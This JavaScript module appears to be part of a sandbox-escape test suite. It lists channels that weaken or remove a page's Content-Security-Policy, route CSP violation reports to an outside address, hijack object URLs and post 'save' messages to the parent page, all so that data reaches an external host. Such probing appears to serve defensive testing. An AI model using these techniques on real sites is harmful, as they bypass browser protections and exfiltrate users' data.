// Loosening what holds the page: its policy, its Trusted Types, its reports.
import { named, wait } from "./aim.js";
import { channel, everywhere, group } from "./channel.js";
import { element, hint, WAYS } from "./elements.js";

const alone = { alone: true };

const sent = (aim) => fetch(aim.url(), { mode: "no-cors" });

const policyElement = (content, name = "Content-Security-Policy") =>
  element("meta", { "http-equiv": name, content });

const reports = everywhere("an element may not name where reports go");

/** Something that the policy refuses, so that there is something to report. */
function refused() {
  new Image().src = "http://refused.invalid/";
  return wait();
}

export const policies = group("policies", [
  channel(
    "policy-looser",
    "a second policy that allows all",
    async (aim) => {
      document.head.prepend(await policyElement("default-src * 'unsafe-inline' data: blob:"));
      return sent(aim);
    },
    alone,
  ),
  channel(
    "policy-removed",
    "the element of the policy removed",
    (aim) => {
      for (const meta of document.querySelectorAll("meta")) meta.remove();
      return sent(aim);
    },
    alone,
  ),
  channel(
    "policy-changed",
    "the element of the policy changed",
    (aim) => {
      for (const meta of document.querySelectorAll("meta")) meta.content = "default-src *";
      return sent(aim);
    },
    alone,
  ),
  channel(
    "policy-head",
    "another head",
    (aim) => {
      document.head.remove();
      document.documentElement.prepend(document.implementation.createHTMLDocument("").head);
      return sent(aim);
    },
    alone,
  ),
  channel(
    "policy-report",
    "where refusals are reported",
    async (aim) => {
      const content = `img-src 'none'; report-uri ${aim.url()}`;
      document.head.append(await policyElement(content));
      return refused();
    },
    { ...alone, ...reports },
  ),
  channel(
    "policy-report-only",
    "where refusals are reported only",
    async (aim) => {
      const content = `img-src 'none'; report-uri ${aim.url()}`;
      document.head.append(await policyElement(content, "Content-Security-Policy-Report-Only"));
      return refused();
    },
    { ...alone, ...reports },
  ),
  channel(
    "report-endpoint",
    "an address for reports of all kinds",
    async (aim) => {
      document.head.append(
        await policyElement(`stolen="${aim.secure()}"`, "Reporting-Endpoints"),
        await policyElement("img-src 'none'; report-to stolen"),
      );
      return refused();
    },
    { ...alone, ...reports },
  ),
]);

/** As the page saves: by a function of its own, or by a word to the page around. */
const save = (name, content) =>
  globalThis.sealed?.save
    ? globalThis.sealed.save(name, content)
    : parent.postMessage({ kind: "save", name, content }, "*");

/** Ways past a guard: where there is none, there is nothing to get past. */
const PAST = new Set(["create-changing-name", "create-renamed", "create-overheard"]);

/** Ways that browsers keep what could be looked up from. */
const KEPT_FROM = {
  "insert-html": { chromium: "leaves such elements out" },
  "custom-element-document": { "firefox<150": "has one registry alone" },
  "custom-element-element": { "firefox<150": "has one registry alone" },
};

/** Links that are looked up; only the one that is caught while a file is saved is a link to click. */
const byWay = ([name, way]) => {
  const tag = name === "save-caught" ? "a" : "link";
  return channel(
    `element-${name}`,
    `<${tag}> by the way ${name}`,
    async (aim) => hint(await way(tag), aim),
    {
      there: name.startsWith("trusted") ? named("trustedTypes") : undefined,
      alone: name === "save-caught" || name.startsWith("trusted"),
      guard: PAST.has(name),
      quiet: KEPT_FROM[name],
    },
  );
};

export const ways = group("elements", [
  ...Object.entries(WAYS).map(byWay),
  channel(
    "save-address",
    "the saving of a file, given an address",
    async (aim) => {
      const { createObjectURL } = URL;
      URL.createObjectURL = () => aim.url();
      try {
        save("stolen.txt", new Blob(["ACGT"]));
      } finally {
        URL.createObjectURL = createObjectURL;
      }
      for (const content of [aim.url(), { href: aim.url() }, [aim.url()]])
        parent.postMessage({ kind: "save", name: aim.url(), content, url: aim.url() }, "*");
      return wait();
    },
    alone,
  ),
  channel(
    "save-page",
    "the saving of a page, opened where it lies",
    (aim) => {
      const page = `<link rel="dns-prefetch preconnect" href="${aim.url()}">`;
      save("", new Blob([page], { type: "text/html" }));
      save("stolen.html", new Blob([page], { type: "text/html" }));
      return wait();
    },
    { ...alone, ...everywhere("what is saved is not opened") },
  ),
]);
